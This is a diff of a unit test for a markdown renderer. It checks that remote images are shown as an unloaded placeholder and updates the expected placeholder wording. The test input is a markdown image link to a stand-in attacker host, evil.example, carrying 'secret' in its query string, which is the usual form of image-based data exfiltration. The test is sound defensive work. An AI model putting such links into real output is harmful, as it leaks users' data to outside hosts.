@@ -48,7 +48,7 @@ describe('MathMarkdown', () => {
   it('shows remote images as a placeholder that loads nothing', () => {
     const html = render('![secret](https://evil.example/?q=secret)');
     expect(html).not.toMatch(/<img/);
-    expect(html).toContain('Load image from evil.example');
+    expect(html).toContain('Image from evil.example (secret) — not loaded; open in a new tab');
     expect(html).toContain('<button');
   });
 
